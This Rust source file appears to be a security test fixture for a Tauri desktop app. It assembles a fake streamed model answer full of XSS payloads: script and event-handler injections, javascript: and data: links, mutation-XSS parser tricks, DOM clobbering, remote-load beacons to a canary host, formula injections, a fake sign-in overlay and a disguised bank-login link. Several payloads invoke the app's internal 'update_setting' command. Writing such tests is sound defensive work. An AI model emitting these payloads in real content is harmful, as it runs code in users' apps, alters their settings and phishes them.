//! Words that try to be more than words, in every form that Markdown, HTML, SVG, MathML and formulas offer.
//!
//! Each attack that runs notes itself, calls a command and asks the canary; each that merely loads asks the canary.

use url::Url;

/// The commands that attacks call; nothing in these journeys has a reason to.
pub(super) const COMMANDS: [&str; 2] = ["update_setting", "delete_chat_forever"];

/// All of it as one answer, as a model would stream it.
pub(super) fn answer(canary: &Url) -> String {
    format!(
        "A claim [1].\n\n{}\n\nThe end of the attacks.",
        groups(canary).join("\n\n")
    )
}

/// The attacks, a few at a time, so that one that swallows what follows does not hide the others.
pub(super) fn groups(canary: &Url) -> Vec<String> {
    GROUPS.iter().map(|group| armed(&group.join("\n\n"), canary)).collect()
}

fn armed(attacks: &str, canary: &Url) -> String {
    const RUN: &str = "window.__ran.push(1);window.__TAURI_INTERNALS__.invoke('update_setting',{key:'max_search_results',\
                       text:'13'});fetch('CANARY/run')";
    let canary = canary.as_str().trim_end_matches('/');
    let run = RUN.replace("CANARY", canary);
    // Fit for where quotes and parentheses would end it.
    let encoded: String = run.bytes().map(|byte| format!("%{byte:02X}")).collect();
    attacks
        .replace("ENCODED", &encoded)
        .replace("RUN", &run)
        .replace("CANARY", canary)
}

const GROUPS: &[&[&str]] = &[
    // What runs by itself.
    &[
        "<script>RUN</script>",
        "<SCRIPT SRC=\"CANARY/script.js\"></SCRIPT>",
        "<img src=x onerror=\"RUN\">",
        "<IMG SRC=x OnErRoR=\"RUN\"/>",
        "<img/src=x/onerror=RUN>",
        "<svg onload=\"RUN\">",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s></svg>",
        "<body onload=\"RUN\">",
        "<input autofocus onfocus=\"RUN\">",
        "<select autofocus onfocus=\"RUN\"></select>",
        "<details open ontoggle=\"RUN\"><summary>more</summary></details>",
        "<marquee onstart=\"RUN\">moving</marquee>",
        "<video><source onerror=\"RUN\"></video>",
        "<audio src=x onerror=\"RUN\"></audio>",
        "<p style=\"animation-name:x\" onanimationstart=\"RUN\">moving</p>",
        "<div onpointerover=\"RUN\" onclick=\"RUN\">over here</div>",
    ],
    // Frames and documents in documents.
    &[
        "<iframe src=\"javascript:parent.eval(decodeURIComponent('ENCODED'))\"></iframe>",
        "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
        "<iframe src=\"CANARY/frame\"></iframe>",
        "<object data=\"CANARY/object\"></object>",
        "<object data=\"javascript:RUN\"></object>",
        "<embed src=\"CANARY/embed\">",
        "<portal src=\"CANARY/portal\"></portal>",
        "<template><img src=x onerror=\"RUN\"></template>",
        "<div><template shadowrootmode=open><img src=x onerror=\"RUN\"></template></div>",
    ],
    // Links that are more than links.
    &[
        "[script](javascript:RUN)",
        "[script](JaVaScRiPt:RUN)",
        "[script](javascript&colon;RUN)",
        "[script](&#106;&#97;vascript:RUN)",
        "[script](java\tscript:RUN)",
        "[script]( javascript:RUN)",
        "[script](\u{1}javascript:RUN)",
        "[script](vbscript:RUN)",
        "[script](data:text/html,<script>RUN</script>)",
        "[script](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[by reference][script]\n\n[script]: javascript:ENCODED",
        "<javascript:ENCODED>",
        "[file](file:///etc/passwd) [share](smb://host/share) [app](deepsearch://settings) [ipc](ipc://localhost/update_setting) \
         [own](tauri://localhost/quick.html) [relative](/quick.html) [fragment](#main) [blank]() [protocol](//host/path)",
        "<a href=\"javascript:RUN\" autofocus>script</a>",
        "<a href=\"https://example.org/\" onclick=\"RUN\" target=_blank ping=\"CANARY/ping\">ping</a>",
        "<a href=\"https://example.org/\" onmouseover=\"RUN\">over</a>",
        "<svg><a xlink:href=\"javascript:RUN\"><text y=20>script</text></a></svg>",
        "<math><mtext href=\"javascript:RUN\">script</mtext></math>",
        "<form action=\"javascript:RUN\"><button>script</button></form>",
        "<form action=\"CANARY/form\"><input type=submit formaction=\"CANARY/formaction\"></form>",
        "<area href=\"javascript:RUN\" shape=default>",
        "[an honest name](https://example.org/real)",
        "[https://bank.example/login](https://evil.example/login)",
    ],
    // What loads.
    &[
        "![picture](CANARY/markdown.png)",
        "![picture][remote]\n\n[remote]: CANARY/reference.png",
        "![svg](data:image/svg+xml,%3Csvg%20onload=ENCODED%3E)",
        "<img src=\"CANARY/img.png\" srcset=\"CANARY/srcset.png 1x\">",
        "<picture><source srcset=\"CANARY/source.png\"><img src=x></picture>",
        "<video src=\"CANARY/video\" poster=\"CANARY/poster\" autoplay></video>",
        "<audio src=\"CANARY/audio\" autoplay></audio>",
        "<input type=image src=\"CANARY/input.png\">",
        "<table background=\"CANARY/table.png\"><tr><td background=\"CANARY/cell.png\">cell</td></tr></table>",
        "<svg><image href=\"CANARY/svg.png\" xlink:href=\"CANARY/xlink.png\"/><use href=\"CANARY/use.svg#x\"/></svg>",
        "<svg><filter id=f><feImage href=\"CANARY/filter.png\"/></filter></svg>",
        "<p style=\"background:url(CANARY/style.png)\">styled</p>",
        "<style>@import 'CANARY/import.css'; body { background: url(CANARY/body.png) } @font-face { font-family: x; src: url(CANARY/font) }</style>",
        "<link rel=stylesheet href=\"CANARY/style.css\"><link rel=prefetch href=\"CANARY/prefetch\">",
        "<link rel=preconnect href=\"CANARY/\"><link rel=dns-prefetch href=\"//canary.example\">",
        "<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">",
        "<base href=\"CANARY/base/\">",
        "<track src=\"CANARY/track\"><bgsound src=\"CANARY/sound\">",
        "CANARY/autolink and <CANARY/angle>",
    ],
    // What changes its meaning when it is parsed a second time.
    &[
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\"></mglyph></table></mtext></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\"></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></mtext></math>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\"RUN\"></annotation-xml></math>",
        "<svg><foreignObject><img src=x onerror=\"RUN\"></foreignObject></svg>",
        "<svg><![CDATA[><img src=x onerror=\"RUN\">]]></svg>",
        "<xmp><img src=x onerror=\"RUN\"></xmp>",
        "&lt;img src=x onerror=\"RUN\"&gt;",
        "<<img src=x onerror=\"RUN\">img src=x onerror=\"RUN\">",
        "<img src=\"x` `<img src=x onerror=RUN>\"` `>",
        "<!--><img src=x onerror=\"RUN\">-->",
        "<a title='</a><img src=x onerror=\"RUN\">'>title</a>",
    ],
    // Names that stand in the way of the page's own.
    &[
        "<form name=getElementById><input name=body></form>",
        "<img name=querySelector id=__TAURI_INTERNALS__>",
        "<a id=app href=\"https://example.org/\">app</a> <a id=__START__>start</a>",
        "<form id=x><input name=attributes><input name=parentNode></form>",
        "<p id=main class=skip style=\"position:fixed;inset:0;z-index:99999;background:red\">Your session has ended. Sign in.</p>",
        "<div data-cite=1 data-at=0 data-host=bank.example data-verdict=supported>not a citation</div>",
    ],
    // Inside what Markdown draws in its own way.
    &[
        "```js\"><img src=x onerror=RUN>\n<script>RUN</script>\n</code></pre><img src=x onerror=\"RUN\">\n```",
        "```mermaid\ngraph TD; A[\"<img src=x onerror=RUN>\"]-->B\n```",
        "`<img src=x onerror=\"RUN\">`",
        "| head <img src=x onerror=\"RUN\"> |\n| --- |\n| cell <svg onload=\"RUN\"> [x](javascript:RUN) |",
        "# Heading <img src=x onerror=\"RUN\"> [x](javascript:RUN)",
        "- [ ] task <img src=x onerror=\"RUN\">\n- item [x](javascript:RUN)",
        "> quoted <img src=x onerror=\"RUN\">",
        "**bold <img src=x onerror=\"RUN\"> _and [x](javascript:RUN)_**",
        "[1](javascript:RUN) [1]<img src=x onerror=\"RUN\"> [99999999999999999999] [-1] [1.5] [^1]\n\n[^1]: note <img src=x onerror=\"RUN\">",
    ],
    // Formulas.
    &[
        "$\\href{javascript:RUN}{x}$ and $\\url{javascript:RUN}$",
        "$\\htmlData{onclick=RUN}{x} \\htmlStyle{background:url(CANARY/tex)}{x} \\htmlClass{skip}{x} \\htmlId{app}{x}$",
        "$\\includegraphics{CANARY/tex.png}$",
        "$$\\def\\a{\\a\\a}\\a$$",
        "$$\\text{</span><img src=x onerror=\"RUN\">}$$",
        "$\\unknown{<script>RUN</script>}$",
        "$$\\rule{1000000em}{1000000em}$$",
    ],
];
